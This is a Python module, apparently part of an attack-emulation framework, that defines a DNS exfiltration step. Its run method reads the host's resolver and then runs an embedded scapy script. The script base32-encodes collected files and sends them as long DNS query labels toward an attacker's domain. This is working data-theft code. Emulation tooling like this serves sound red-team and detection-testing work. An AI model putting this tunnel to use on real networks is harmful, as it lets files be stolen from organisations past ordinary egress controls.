"""The `exfil-dns` step: the collected files sent as long DNS labels through the organisation's resolver."""

from __future__ import annotations

from typing import ClassVar, Literal

from ...model.scenario import STEP_ACTIONS, Ref, RefCheck
from ..defence import Route
from .base import Indicators, Outcome, StepContext, StepKind, failed_unless


@STEP_ACTIONS.register
class DnsExfilAction(StepKind):
    """Exfiltration: the collected files sent as long DNS labels (crafted with scapy)."""

    kind: Literal["exfil-dns"]
    host: Ref
    domain: str

    order: ClassVar[int] = 110
    host_fields: ClassVar[tuple[str, ...]] = ("host",)

    def check_refs(self, refs: RefCheck) -> None:
        """The domain is a DNS name."""
        refs.dns_name(self.domain, ("domain",))

    def indicators(self, found: Indicators) -> None:
        """The domain and its address."""
        found.domain(self.domain)

    async def run(self, ctx: StepContext) -> Outcome:
        """The collected files sent as DNS queries with long labels, crafted with scapy, to the
        organisation's resolver, which forwards them towards the attacker's name server."""
        loot = ctx.facts.get("loot", {}).get(self.host)
        if not loot:
            return Outcome(False, f"nothing collected on {self.host}")
        resolver = await ctx.run(self.host, "awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf")
        script = (
            "import base64, sys\nfrom scapy.all import IP, UDP, DNS, DNSQR, sr1, conf\nconf.verb = 0\n"
            f"resolver, domain, paths = {resolver.stdout.strip()!r}, {self.domain!r}, {loot!r}\n"
            "sent = 0\n"
            "for n, path in enumerate(paths):\n"
            "    data = base64.b32encode(open(path, 'rb').read()).decode().rstrip('=').lower()\n"
            "    for i in range(0, len(data), 120):\n"
            "        chunk = data[i:i + 120]\n"
            "        name = f'{chunk[:60]}.{chunk[60:] or \"0\"}.{n}-{i // 120}.{domain}'\n"
            "        sr1(IP(dst=resolver)/UDP(sport=53053, dport=53)/DNS(rd=1, qd=DNSQR(qname=name)), timeout=2)\n"
            "        sent += 1\n"
            "print(sent)\n")
        result = await ctx.run(self.host, ["python3", "-c", script], timeout=120)
        outcome = failed_unless(result, "DNS tunnel failed")
        if outcome.executed:
            outcome.details = {"queries": int(result.stdout.strip() or 0)}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        """The way through the organisation's resolver to the domain."""
        return ctx.view.resolver_route(self.host, self.domain)
